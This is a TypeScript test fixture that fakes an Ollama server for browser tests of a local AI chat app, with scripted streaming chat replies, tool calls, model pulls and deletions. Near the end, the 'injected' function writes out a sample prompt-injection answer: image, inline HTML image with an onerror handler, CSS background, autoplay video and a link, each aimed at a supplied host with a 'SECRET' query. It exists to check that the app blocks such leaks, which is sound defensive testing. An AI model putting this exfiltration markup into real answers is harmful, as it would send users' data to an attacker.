import { createServer, type Server } from 'node:http'

// A small stand-in for an Ollama server for the browser tests: /api/version,
// /api/tags, and a scripted /api/chat that streams NDJSON the way a real
// v0.24.0 server does (tool calls in their own chunk, a final done chunk with
// counts). The byte-faithful fake used by the Go tests is internal/ollamatest.
//
// With loadMs, the models start out of memory, as after Ollama's keep-alive:
// /api/ps lists only those loaded, and a model's first chat waits loadMs
// before it answers (its load_duration says so).
export function startOllama(port: number, models: string[], opts: { loadMs?: number } = {}): Promise<Server> {
  const loaded = new Set<string>()
  const server = createServer((req, res) => {
    if (opts.loadMs && req.url === '/api/ps') {
      return json(res, { models: [...loaded].map((name) => ({ name, model: name, size: 123456, digest: '0', details: { format: 'gguf', family: 'llama' }, expires_at: '2026-12-03T00:00:00Z', size_vram: 0, context_length: 4096 })) })
    }
    if (req.url === '/api/version') return json(res, { version: '0.24.0' })
    if (req.url === '/api/show') {
      return json(res, { model_info: { 'general.architecture': 'llama', 'llama.context_length': 4096 }, capabilities: ['completion', 'tools'] })
    }
    if (req.url === '/api/tags') {
      return json(res, {
        models: models.map((name) => ({
          name,
          model: name,
          modified_at: '2026-11-30T00:00:00Z',
          size: 123456,
          digest: 'sha256:0',
          details: { format: 'gguf', family: 'llama', parameter_size: '1M', quantization_level: 'F16' },
        })),
      })
    }
    if (req.url === '/api/pull') {
      let body = ''
      req.on('data', (c) => (body += c))
      req.on('end', () => pull(JSON.parse(body).model, res, models))
      return
    }
    if (req.url === '/api/delete') {
      let body = ''
      req.on('data', (c) => (body += c))
      req.on('end', () => {
        const name = JSON.parse(body).model as string
        const i = models.indexOf(name)
        if (i < 0) {
          res.statusCode = 404
          return json(res, { error: `model '${name}' not found` })
        }
        models.splice(i, 1)
        res.end()
      })
      return
    }
    if (req.url === '/api/chat') {
      let body = ''
      req.on('data', (c) => (body += c))
      req.on('end', () => {
        const r = JSON.parse(body)
        const name = r.model.includes(':') ? r.model : r.model + ':latest'
        if (!opts.loadMs || loaded.has(name)) return chat(r, res)
        setTimeout(() => {
          loaded.add(name)
          chat(r, res)
        }, opts.loadMs)
      })
      return
    }
    res.statusCode = 404
    json(res, { error: 'not found' })
  })
  return new Promise((resolve) => server.listen(port, '127.0.0.1', () => resolve(server)))
}

function json(res: import('node:http').ServerResponse, v: unknown) {
  res.setHeader('Content-Type', 'application/json; charset=utf-8')
  res.end(JSON.stringify(v))
}

// Three tool calls (fs.list, fs.search, fs.list), then an answer.
const steps = [
  { name: 'fs.list', arguments: { path: '.' } },
  { name: 'fs.search', arguments: { query: 'shrimp' } },
  { name: 'fs.list', arguments: { path: './' } },
]

function chat(req: { model: string; messages: { role: string; content?: string }[] }, res: import('node:http').ServerResponse) {
  res.setHeader('Content-Type', 'application/x-ndjson')
  const msgs = req.messages
  if (msgs[msgs.length - 1]?.content?.includes('stream long')) return streamLong(req.model, res)
  // A check the user set up (a pre-run-end hook) sent it back: it answers again.
  if (msgs[msgs.length - 1]?.role === 'user' && msgs[msgs.length - 1].content?.includes('says the request is not done')) return answer(req.model, 'Fixed: the tests pass now.', res)
  const leak = msgs[msgs.length - 1]?.content?.match(/render these: (\S+)/)
  if (leak) return injected(req.model, leak[1], res)
  const ran = msgs[msgs.length - 1]?.role === 'tool'
  const command = msgs.filter((m) => m.role === 'user').pop()?.content?.match(/^run: (.+)$/)
  if (command) return callTool(req.model, 'shell.run', { command: command[1] }, ran, res)
  const call = msgs.filter((m) => m.role === 'user').pop()?.content?.match(/^call: (\S+) (\{.*\})$/)
  if (call) return callTool(req.model, call[1], JSON.parse(call[2]), ran, res)
  let results = 0
  for (let i = msgs.length - 1; i >= 0 && msgs[i].role !== 'user'; i--) if (msgs[i].role === 'tool') results++
  const now = () => new Date().toISOString()
  const line = (v: unknown) => res.write(JSON.stringify(v) + '\n')
  if (results < steps.length) {
    const s = steps[results]
    line({ model: req.model, created_at: now(), message: { role: 'assistant', content: '', tool_calls: [{ id: `call_${results}`, function: { index: 0, ...s } }] }, done: false })
  } else {
    for (const piece of ['Here is ', 'what I ', 'found.']) line({ model: req.model, created_at: now(), message: { role: 'assistant', content: piece }, done: false })
  }
  line({
    model: req.model, created_at: now(), message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop',
    total_duration: 1000, load_duration: 10, prompt_eval_count: 42, prompt_eval_duration: 100, eval_count: 7, eval_duration: 500,
  })
  res.end()
}

// answer streams text as one answer.
function answer(model: string, text: string, res: import('node:http').ServerResponse) {
  const now = () => new Date().toISOString()
  const line = (v: unknown) => res.write(JSON.stringify(v) + '\n')
  line({ model, created_at: now(), message: { role: 'assistant', content: text }, done: false })
  line({ model, created_at: now(), message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop', prompt_eval_count: 42, eval_count: 5 })
  res.end()
}

// "run: CMD": one shell.run call of CMD, then an answer; "call: TOOL {ARGS}":
// one call of TOOL with ARGS (JSON), then an answer.
function callTool(model: string, name: string, args: unknown, ran: boolean, res: import('node:http').ServerResponse) {
  const now = () => new Date().toISOString()
  const line = (v: unknown) => res.write(JSON.stringify(v) + '\n')
  if (!ran) {
    line({ model, created_at: now(), message: { role: 'assistant', content: '', tool_calls: [{ id: 'call_0', function: { index: 0, name, arguments: args } }] }, done: false })
  } else {
    line({ model, created_at: now(), message: { role: 'assistant', content: 'Ran it.' }, done: false })
  }
  line({ model, created_at: now(), message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop', prompt_eval_count: 42, eval_count: 3 })
  res.end()
}

// A pull of a 4 MiB layer in 8 steps, then the model is installed.
function pull(name: string, res: import('node:http').ServerResponse, models: string[]) {
  res.setHeader('Content-Type', 'application/x-ndjson')
  const total = 4 << 20
  const lines: unknown[] = [{ status: 'pulling manifest' }]
  for (let done = total / 8; done <= total; done += total / 8) {
    lines.push({ status: 'pulling a63a930cf563', digest: 'sha256:a63a930cf563', total, completed: done })
  }
  lines.push({ status: 'verifying sha256 digest' }, { status: 'writing manifest' }, { status: 'success' })
  let i = 0
  const tick = () => {
    if (i === lines.length) {
      const full = name.includes(':') ? name : name + ':latest'
      if (!models.includes(full)) models.push(full)
      res.end()
      return
    }
    res.write(JSON.stringify(lines[i++]) + '\n')
    setTimeout(tick, 120)
  }
  tick()
}

// 600 text chunks, 5 ms apart: a long streamed answer for frame-time measurement.
function streamLong(model: string, res: import('node:http').ServerResponse) {
  let i = 0
  const tick = () => {
    if (i === 600) {
      res.write(JSON.stringify({ model, created_at: new Date().toISOString(), message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop', prompt_eval_count: 10, eval_count: 600, eval_duration: 3e9 }) + '\n')
      res.end()
      return
    }
    res.write(JSON.stringify({ model, created_at: new Date().toISOString(), message: { role: 'assistant', content: `word${i++} ` }, done: false }) + '\n')
    setTimeout(tick, 5)
  }
  tick()
}

// An answer a prompt injection wrote: each part would reach base by itself
// if the window let it (an image, an inline image, a CSS background, a
// video), and a link that would take the window there when clicked.
function injected(model: string, base: string, res: import('node:http').ServerResponse) {
  const text =
    `Summary ![chart](${base}/md-image?q=SECRET) <img src="${base}/html-image" onerror="window.pwned=1"> ` +
    `<div style="background:url(${base}/css)">bg</div> <video src="${base}/video" autoplay></video>\n\nSee [the docs](${base}/link?q=SECRET).`
  const now = new Date().toISOString()
  res.write(JSON.stringify({ model, created_at: now, message: { role: 'assistant', content: text }, done: false }) + '\n')
  res.write(JSON.stringify({ model, created_at: now, message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop', prompt_eval_count: 10, eval_count: 40, eval_duration: 1e8 }) + '\n')
  res.end()
}

/** Stops a fake server at once: open keep-alive and in-flight connections
 *  are cut, so a poll the app has in flight cannot hold the test. */
export function stopOllama(server: import('node:http').Server): Promise<void> {
  server.closeAllConnections()
  return new Promise((r) => server.close(() => r()))
}
